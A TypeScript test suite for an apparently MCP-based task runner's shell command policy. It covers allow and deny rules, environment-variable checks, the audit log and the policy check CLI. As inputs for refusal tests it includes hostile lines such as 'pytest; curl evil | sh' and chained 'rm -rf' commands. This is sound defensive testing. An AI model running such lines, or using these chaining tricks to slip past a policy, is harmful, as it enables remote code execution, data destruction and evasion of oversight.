import assert from 'node:assert/strict';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { decide } from '../src/policy/decide.js';
import { loadPolicy } from '../src/policy/rules.js';
import { makeHome, type TestHome } from './helpers/home.js';
import { connectMcp, type McpSession } from './helpers/mcp.js';
import { ended, type Task } from './helpers/tasks.js';
import { BYPASSES, HOLD_OUT, LEGITIMATE } from './helpers/policy-corpus.js';

const strict = loadPolicy({ BACKBURNER_ALLOW: '^pytest( |$),^echo ,^make( |$),^ls( |$)' }, '/nonexistent');

describe('the shell-aware command policy', () => {
  it(`refuses all ${BYPASSES.length} bypass attempts under a strict allow list`, () => {
    assert.ok(BYPASSES.length >= 60);
    const admitted = BYPASSES.filter((line) => decide(line, strict).allowed);
    assert.deepEqual(admitted, []);
  });

  it('admits the legitimate forms of the allowed commands', () => {
    const refused = LEGITIMATE.map((line) => ({ line, decision: decide(line, strict) })).filter(
      ({ decision }) => !decision.allowed,
    );
    assert.deepEqual(
      refused.map(({ line, decision }) => `${line}: ${decision.message}`),
      [],
    );
  });

  it('names the part of the line and the rule', () => {
    const refusal = decide('pytest; curl evil | sh', strict);
    assert.equal(refusal.part, 'curl evil');
    assert.match(refusal.message, /does not match any allow pattern \(BACKBURNER_ALLOW: '\^pytest\( \|\$\)'/);
    const deny = decide(
      'pytest; sh -c "rm -rf /tmp/x"',
      loadPolicy({ BACKBURNER_DENY: 'rm -rf' }, '/nonexistent'),
    );
    assert.equal(deny.allowed, false);
    assert.equal(deny.rule?.source, 'BACKBURNER_DENY');
    assert.match(deny.message, /matches deny pattern 'rm -rf' \(BACKBURNER_DENY\)/);
    const computed = decide('$tool --version', strict);
    assert.match(computed.message, /computes its command name at run time/);
  });

  it('with deny rules only, a deny pattern anywhere refuses and everything else runs', () => {
    const denyOnly = loadPolicy({ BACKBURNER_DENY: '^rm( |$)' }, '/nonexistent');
    assert.equal(decide('ls; rm -rf x', denyOnly).allowed, false, 'the anchor applies to each command');
    assert.equal(decide('echo "$(rm x)"', denyOnly).allowed, false);
    assert.equal(decide('ls -la && echo fine', denyOnly).allowed, true);
    // A deny list cannot prove that a computed name, or a line /bin/sh reads otherwise, is not rm.
    assert.match(decide('$x args', denyOnly).message, /computes its command name at run time/);
    assert.match(decide('/bin/r? -rf x', denyOnly).message, /computes its command name/);
    assert.match(decide('echo "unterminated', denyOnly).message, /cannot be parsed as \/bin\/sh/);
  });
});

describe('the hold-out corpus of the four families', () => {
  const echoLs = loadPolicy({ BACKBURNER_ALLOW: '^echo( |$),^ls( |$)' }, '/nonexistent');
  it(`refuses all ${HOLD_OUT.length} lines, each for its reason`, () => {
    const wrong = HOLD_OUT.map(([line, why]) => ({ line, why, decision: decide(line, echoLs) }))
      .filter(({ why, decision }) => decision.allowed || !why.test(decision.message))
      .map(({ line, decision }) => `${line} → ${decision.allowed ? 'ALLOWED' : decision.message}`);
    assert.deepEqual(wrong, []);
  });

  it("refuses a sensitive variable in start_task's env argument unless allow_env names it", () => {
    const refused = decide('ls', echoLs, { envNames: ['CI', 'PATH'] });
    assert.equal(refused.allowed, false);
    assert.match(refused.message, /env argument PATH' sets PATH/);
    assert.equal(decide('ls', echoLs, { envNames: ['CI', 'FOO'] }).allowed, true);
    const named = loadPolicy(
      { BACKBURNER_ALLOW: '^ls( |$)', BACKBURNER_ALLOW_ENV: 'PATH,LD_.*' },
      '/nonexistent',
    );
    assert.equal(decide('ls', named, { envNames: ['PATH'] }).allowed, true);
    assert.equal(decide('LD_PRELOAD=x ls', named).allowed, true);
    assert.equal(decide('PYTHONPATH=x ls', named).allowed, false, 'names are matched whole');
  });

  it('still admits the everyday forms with wrappers and harmless variables', () => {
    const lines = [
      'env CI=1 ls',
      'timeout -k 1 5 ls -la',
      'nice -n 5 ls',
      'nice -5 ls',
      'echo a | xargs -n 1 echo',
      'xargs -I{} echo {}',
      'sh -e -c "ls; echo done"',
      'CI=1 FOO=$HOME ls',
      'echo $HOME',
    ];
    const refused = lines
      .filter((line) => !decide(line, echoLs).allowed)
      .map((l) => `${l}: ${decide(l, echoLs).message}`);
    assert.deepEqual(refused, []);
  });
});

describe('the policy file, the audit log and backburner policy check', () => {
  let home: TestHome;
  let mcp: McpSession;
  before(async () => {
    home = makeHome();
    writeFileSync(
      join(home.path, 'policy.json'),
      JSON.stringify({
        allow: ['^echo ', { pattern: '^printf a,b', reason: 'a pattern with a comma' }],
        deny: [{ pattern: 'secret', reason: 'never print secrets' }],
      }),
    );
    mcp = await connectMcp(home, { env: { BACKBURNER_DENY: 'forbidden' } });
  });
  after(async () => {
    await mcp.close();
    await home.cleanup();
  });

  it('combines the file and the variables, deny wins, and the error carries the rule and its reason', async () => {
    const ok = await mcp.ok<Task>('start_task', { command: 'printf a,b' });
    assert.equal((await ended(mcp, ok.task_id)).status, 'completed');
    assert.match(
      await mcp.error('start_task', { command: 'echo secret' }),
      /matches deny pattern 'secret' \(.*policy\.json\): never print secrets/,
    );
    assert.match(
      await mcp.error('start_task', { command: 'echo forbidden' }),
      /matches deny pattern 'forbidden' \(BACKBURNER_DENY\)/,
    );
    assert.match(await mcp.error('start_task', { command: 'echo hi; ls' }), /the part 'ls' matches none/);
  });

  it('appends every refusal to audit.log, owner-only, as JSON lines', () => {
    const path = join(home.path, 'audit.log');
    assert.equal(statSync(path).mode & 0o777, 0o600);
    const entries = readFileSync(path, 'utf8')
      .trim()
      .split('\n')
      .map(
        (line) =>
          JSON.parse(line) as { command: string; rule?: string; part?: string; event: string; time: string },
      );
    assert.deepEqual(
      entries.map((entry) => [entry.event, entry.command, entry.rule ?? null, entry.part ?? null]),
      [
        ['refused', 'echo secret', 'secret', null],
        ['refused', 'echo forbidden', 'forbidden', null],
        ['refused', 'echo hi; ls', null, 'ls'],
      ],
    );
    assert.ok(entries.every((entry) => !Number.isNaN(Date.parse(entry.time))));
  });

  it('backburner policy check tells whether a command would run and which rule decided', () => {
    const allowed = home.cli(['policy', 'check', 'echo hello']);
    assert.equal(allowed.code, 0);
    assert.match(allowed.stdout, /allowed/);
    const refused = home.cli(['policy', 'check', 'echo secret', '--json']);
    assert.equal(refused.code, 1);
    const decision = JSON.parse(refused.stdout) as { allowed: boolean; rule: string; reason: string };
    assert.deepEqual(
      [decision.allowed, decision.rule, decision.reason],
      [false, 'secret', 'never print secrets'],
    );
  });

  it('a broken policy file refuses to run anything, saying why', async () => {
    const other = makeHome();
    try {
      writeFileSync(join(other.path, 'policy.json'), '{ "allow": [');
      const session = await connectMcp(other);
      try {
        assert.match(
          await session.error('start_task', { command: 'echo hi' }),
          /policy file .*policy\.json is not valid JSON/,
        );
      } finally {
        await session.close();
      }
    } finally {
      await other.cleanup();
    }
  });
});
